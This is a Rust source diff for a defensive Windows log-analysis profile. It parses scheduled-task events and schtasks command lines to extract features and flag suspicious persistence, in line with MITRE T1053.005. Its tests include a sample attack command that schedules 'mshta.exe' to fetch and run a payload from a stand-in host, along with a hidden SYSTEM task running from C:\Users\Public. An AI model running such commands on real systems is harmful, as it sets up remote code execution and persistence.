@@ -1,0 +1,315 @@
+//! The scheduled-task profile (MITRE ATT&CK T1053.005).
+//!
+//! - `Microsoft-Windows-TaskScheduler/Operational`, every event id;
+//! - Security 4698 (created), 4699 (deleted), 4700 (enabled), 4701 (disabled), 4702 (updated),
+//!   with the task definition XML parsed;
+//! - process creations of `schtasks.exe` / `at.exe` (Security 4688, Sysmon 1), with the
+//!   command line parsed into the task it creates, runs or deletes.
+
+use super::Profile;
+use super::features::*;
+use super::task_xml;
+use crate::event::{CH_SECURITY, CH_SYSMON, CH_TASKSCHEDULER, RawEvent};
+
+pub struct ScheduledTasks;
+
+pub const FIELDS: &[&str] = &[
+    "task_name",
+    "user",
+    "command",
+    "arguments",
+    "exe",
+    "dir_class",
+    "lolbin",
+    "flags",
+    "principal",
+    "logon_type",
+    "run_level",
+    "hidden",
+    "triggers",
+    "action",
+    "author",
+    "working_dir",
+    "result_code",
+    "parent",
+    "schtasks_op",
+    "remote",
+];
+
+/// Index of a field in [`FIELDS`], at compile time.
+const fn idx(name: &str) -> usize {
+    let mut i = 0;
+    while i < FIELDS.len() {
+        if str_eq(FIELDS[i], name) {
+            return i;
+        }
+        i += 1;
+    }
+    panic!("unknown field");
+}
+
+const fn str_eq(a: &str, b: &str) -> bool {
+    let (a, b) = (a.as_bytes(), b.as_bytes());
+    if a.len() != b.len() {
+        return false;
+    }
+    let mut i = 0;
+    while i < a.len() {
+        if a[i] != b[i] {
+            return false;
+        }
+        i += 1;
+    }
+    true
+}
+
+const TASK_NAME: usize = idx("task_name");
+const USER: usize = idx("user");
+const COMMAND: usize = idx("command");
+const ARGUMENTS: usize = idx("arguments");
+const EXE: usize = idx("exe");
+const DIR_CLASS: usize = idx("dir_class");
+const LOLBIN: usize = idx("lolbin");
+const FLAGS: usize = idx("flags");
+const PRINCIPAL: usize = idx("principal");
+const LOGON_TYPE: usize = idx("logon_type");
+const RUN_LEVEL: usize = idx("run_level");
+const HIDDEN: usize = idx("hidden");
+const TRIGGERS: usize = idx("triggers");
+const ACTION: usize = idx("action");
+const AUTHOR: usize = idx("author");
+const WORKING_DIR: usize = idx("working_dir");
+const RESULT_CODE: usize = idx("result_code");
+const PARENT: usize = idx("parent");
+const SCHTASKS_OP: usize = idx("schtasks_op");
+const REMOTE: usize = idx("remote");
+
+fn is_task_tool(path: &str) -> bool {
+    matches!(base_name(path).as_str(), "schtasks.exe" | "at.exe" | "schtasks" | "at")
+}
+
+fn mentions_task_tool(command_line: &str) -> bool {
+    let l = command_line.to_ascii_lowercase();
+    l.contains("schtasks") || l.contains("at.exe")
+}
+
+impl Profile for ScheduledTasks {
+    fn name(&self) -> &'static str {
+        "scheduled-tasks"
+    }
+
+    fn fields(&self) -> &'static [&'static str] {
+        FIELDS
+    }
+
+    fn wants(&self, ev: &RawEvent) -> bool {
+        match ev.canonical_channel() {
+            CH_TASKSCHEDULER => true,
+            CH_SECURITY => match ev.event_id {
+                4698..=4702 => true,
+                4688 => {
+                    ev.get("NewProcessName").is_some_and(is_task_tool)
+                        || ev.get("CommandLine").is_some_and(mentions_task_tool)
+                }
+                _ => false,
+            },
+            CH_SYSMON => {
+                ev.event_id == 1
+                    && (ev.get("Image").is_some_and(is_task_tool)
+                        || ev.get("CommandLine").is_some_and(mentions_task_tool))
+            }
+            _ => false,
+        }
+    }
+
+    fn extract(&self, ev: &RawEvent) -> Option<Vec<String>> {
+        if !self.wants(ev) {
+            return None;
+        }
+        let mut f = vec![String::new(); FIELDS.len()];
+        match (ev.canonical_channel(), ev.event_id) {
+            (CH_TASKSCHEDULER, _) => operational(ev, &mut f),
+            (CH_SECURITY, 4698..=4702) => security_task(ev, &mut f),
+            _ => process_creation(ev, &mut f)?,
+        }
+        Some(f)
+    }
+}
+
+/// Fill the command-derived features from an executable path and its arguments.
+fn set_command(f: &mut [String], exe_path: &str, arguments: &str) {
+    let command = normalize_path(exe_path);
+    let exe = if command.starts_with("com:") { String::new() } else { base_name(&command) };
+    f[DIR_CLASS] = dir_class(&command).to_string();
+    f[LOLBIN] = if !exe.is_empty() && is_lolbin(&exe) { "yes".into() } else { String::new() };
+    let flags = suspicious_flags(&exe, &format!("{exe_path} {arguments}"));
+    push_flags(&mut f[FLAGS], &flags);
+    f[ARGUMENTS] = mask_volatile(&normalize_path(arguments));
+    f[EXE] = exe;
+    f[COMMAND] = command;
+}
+
+fn push_flags(dst: &mut String, add: &str) {
+    if add.is_empty() {
+        return;
+    }
+    let mut all: Vec<&str> = dst.split(',').chain(add.split(',')).filter(|s| !s.is_empty()).collect();
+    all.sort_unstable();
+    all.dedup();
+    *dst = all.join(",");
+}
+
+fn operational(ev: &RawEvent, f: &mut [String]) {
+    if let Some(t) = ev.first(&["TaskName"]) {
+        f[TASK_NAME] = normalize_task_name(t);
+    }
+    if let Some(u) = ev.first(&["UserName", "UserContext", "UserId"]) {
+        f[USER] = normalize_user("", u);
+    }
+    // 129 names the launched process in Path; 200/201 the action in ActionName (a path for
+    // Exec actions, a handler's display name for COM actions).
+    if let Some(p) = ev.first(&["Path", "ActionName"]) {
+        set_command(f, p, "");
+    }
+    if let Some(rc) = ev.first(&["ResultCode"]) {
+        f[RESULT_CODE] = rc.to_ascii_lowercase();
+    }
+}
+
+fn security_task(ev: &RawEvent, f: &mut [String]) {
+    if let Some(t) = ev.first(&["TaskName"]) {
+        f[TASK_NAME] = normalize_task_name(t);
+    }
+    f[USER] = normalize_user(
+        ev.first(&["SubjectDomainName"]).unwrap_or(""),
+        ev.first(&["SubjectUserName"]).unwrap_or(""),
+    );
+    let content = ev.first(&["TaskContentNew", "TaskContent"]).unwrap_or("");
+    let Some(xml) = task_xml::parse(content) else {
+        return;
+    };
+    if let Some(a) = xml.exec.first() {
+        set_command(f, &a.command, &a.arguments);
+        f[WORKING_DIR] = normalize_path(&a.working_directory);
+    } else if let Some(clsid) = xml.com_class_ids.first() {
+        f[COMMAND] = format!("com:{}", clsid.trim().to_lowercase());
+        f[DIR_CLASS] = "com".into();
+    }
+    if xml.malformed {
+        push_flags(&mut f[FLAGS], "malformed-xml");
+    }
+    if xml.action_kinds.len() > 1 {
+        push_flags(&mut f[FLAGS], "multi-action");
+    }
+    f[ACTION] = xml.action_kinds.join(",");
+    f[PRINCIPAL] = if !xml.user_id.is_empty() {
+        normalize_user("", &xml.user_id)
+    } else {
+        normalize_user("", &xml.group_id)
+    };
+    f[LOGON_TYPE] = xml.logon_type.to_ascii_lowercase();
+    f[RUN_LEVEL] = xml.run_level.to_ascii_lowercase();
+    f[HIDDEN] = xml.hidden.map(|h| h.to_string()).unwrap_or_default();
+    let mut triggers: Vec<String> = xml.triggers.iter().map(|t| t.to_ascii_lowercase()).collect();
+    triggers.sort();
+    triggers.dedup();
+    if xml.repeats {
+        triggers.push("repeat".into());
+    }
+    f[TRIGGERS] = triggers.join(",");
+    let author = xml.author.trim();
+    f[AUTHOR] = if author.contains('\\') && !author.contains('%') && !author.contains("$(") {
+        normalize_user("", author)
+    } else {
+        mask_volatile(&author.to_lowercase())
+    };
+}
+
+fn process_creation(ev: &RawEvent, f: &mut [String]) -> Option<()> {
+    let cl = ev.first(&["CommandLine"])?;
+    let call = parse_schtasks(cl)?;
+    f[TASK_NAME] = normalize_task_name(&call.task_name);
+    f[USER] = if ev.event_id == 4688 {
+        normalize_user(
+            ev.first(&["SubjectDomainName"]).unwrap_or(""),
+            ev.first(&["SubjectUserName"]).unwrap_or(""),
+        )
+    } else {
+        normalize_user("", ev.first(&["User"]).unwrap_or(""))
+    };
+    if !call.task_run.is_empty() {
+        let (exe, args) = split_exe_args(&call.task_run);
+        set_command(f, &exe, &args);
+    }
+    if !call.xml.is_empty() {
+        push_flags(&mut f[FLAGS], "xml-import");
+    }
+    f[PRINCIPAL] = normalize_user("", &call.run_as);
+    f[RUN_LEVEL] = call.run_level;
+    f[TRIGGERS] = call.schedule;
+    f[PARENT] = ev
+        .first(&["ParentProcessName", "ParentImage"])
+        .map(base_name)
+        .unwrap_or_default();
+    f[SCHTASKS_OP] = call.op;
+    f[REMOTE] = if call.remote_host.is_empty() { String::new() } else { "yes".into() };
+    Some(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::sync::Arc;
+
+    fn ev(channel: &str, id: u32, data: &[(&str, &str)]) -> RawEvent {
+        RawEvent {
+            source: Arc::from("t"),
+            channel: channel.into(),
+            event_id: id,
+            provider: String::new(),
+            computer: "PC".into(),
+            time: None,
+            record_id: None,
+            data: data.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect(),
+        }
+    }
+
+    fn get<'a>(f: &'a [String], name: &str) -> &'a str {
+        &f[FIELDS.iter().position(|n| *n == name).unwrap()]
+    }
+
+    #[test]
+    fn security_4698() {
+        let xml = "<Task><Settings><Hidden>true</Hidden></Settings><Actions><Exec><Command>C:\\Users\\Public\\svc.exe</Command><Arguments>-w hidden</Arguments></Exec></Actions><Principals><Principal><UserId>S-1-5-18</UserId></Principal></Principals></Task>";
+        let e = ev("security", 4698, &[("SubjectUserName", "bob"), ("SubjectDomainName", "CORP"), ("TaskName", "\\Upd"), ("TaskContent", xml)]);
+        let f = ScheduledTasks.extract(&e).unwrap();
+        assert_eq!(get(&f, "command"), "c:\\users\\public\\svc.exe");
+        assert_eq!(get(&f, "dir_class"), "users-public");
+        assert_eq!(get(&f, "user"), "corp\\bob");
+        assert_eq!(get(&f, "principal"), "nt authority\\system");
+        assert_eq!(get(&f, "hidden"), "true");
+        assert_eq!(get(&f, "action"), "exec");
+    }
+
+    #[test]
+    fn process_creation_of_schtasks() {
+        let e = ev("Microsoft-Windows-Sysmon/Operational", 1, &[
+            ("Image", "C:\\Windows\\System32\\schtasks.exe"),
+            ("CommandLine", "\"C:\\Windows\\System32\\schtasks.exe\" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR \"mshta.exe https://x.example/Injection.txt\" /F"),
+            ("User", "PC\\alice"), ("ParentImage", "C:\\Windows\\System32\\cmd.exe")]);
+        let f = ScheduledTasks.extract(&e).unwrap();
+        assert_eq!(get(&f, "task_name"), "\\MSOFFICE_");
+        assert_eq!(get(&f, "exe"), "mshta.exe");
+        assert_eq!(get(&f, "lolbin"), "yes");
+        assert!(get(&f, "flags").contains("url"));
+        assert_eq!(get(&f, "schtasks_op"), "create");
+        assert_eq!(get(&f, "parent"), "cmd.exe");
+    }
+
+    #[test]
+    fn unrelated_events_are_dropped() {
+        assert!(!ScheduledTasks.wants(&ev("Security", 4624, &[])));
+        assert!(!ScheduledTasks.wants(&ev("Security", 4688, &[("NewProcessName", "C:\\x\\notepad.exe"), ("CommandLine", "notepad")])));
+        assert!(ScheduledTasks.wants(&ev("Microsoft-Windows-TaskScheduler/Operational", 322, &[])));
+    }
+}
